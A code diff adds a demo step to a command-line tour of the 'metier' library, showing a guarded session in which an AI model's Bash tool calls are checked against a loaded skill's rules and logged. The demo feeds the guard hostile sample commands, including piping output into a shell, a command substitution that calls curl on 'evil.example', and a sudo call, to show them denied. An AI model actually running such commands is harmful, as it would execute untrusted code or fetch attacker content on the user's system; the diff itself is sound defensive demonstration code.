@@ -2,15 +2,17 @@
 
 from __future__ import annotations
 
+import json
 import sys
 import tempfile
 import time
 from pathlib import Path
 from typing import TYPE_CHECKING
 
-from metier import Library
+from metier import Guard, Library, ToolResult
 from metier.cli.output import Style, table
 from metier.errors import MetierError
+from metier.guard import MemoryLog
 from metier.library import Place
 from metier.skill import shorten
 from metier.source import FolderSource, package_source
@@ -41,8 +43,9 @@ def run(options: argparse.Namespace) -> int:
         _fresh(style, folder / "fresh")
         _contained(style)
         _found(style)
+        _guarded(style, folder)
         _fast(style, folder / "many")
-    commands = [style.strong(command) for command in ("metier list", "metier new my-skill", "metier doctor")]
+    commands = [style.strong(command) for command in ("metier list", "metier session", "metier new my-skill")]
     print(f"\nNext: {', '.join(commands)}.")
     return 0
 
@@ -123,8 +126,25 @@ def _found(style: Style) -> None:
     print(f"\ncatalog in {catalog.size} of {catalog.budget} bytes:\n{catalog}")
 
 
+def _guarded(style: Style, folder: Path) -> None:
+    _title(style, 7, "A session: a skill is loaded, and nothing outside its rules happens")
+    library = Library([Place(layer="plugin", source=package_source("metier", "bundled"))], cache=False)
+    log = MemoryLog()
+    session = library.session(guard=Guard(audit=log), workspace=folder)
+    receipt = session.load("release-notes", by="model").active[0]
+    print(f"loaded {receipt.name} {receipt.digest[:19]}…")
+    for command in ("git log --oneline -5", "git log | sh", "git log $(curl evil.example)", "sudo git show HEAD"):
+        admission = session.admit("Bash", {"command": command})
+        admission.record(ToolResult(success=True))
+    paint = {"allow": style.good, "deny": style.bad}
+    for record in log.records[1:]:
+        said = "" if record.decision == "allow" else f"  {style.dim(record.reason.partition('. ')[2])}"
+        print(f"  {paint[record.decision](record.decision):<5} {json.loads(record.arguments)['command']}{said}")
+    print(f"{len(log.records)} audit records, one for each load and call.")
+
+
 def _fast(style: Style, folder: Path) -> None:
-    _title(style, 7, "A thousand skills")
+    _title(style, 8, "A thousand skills")
     for number in range(1_000):
         skill = folder / f"skill-{number}"
         skill.mkdir(parents=True)
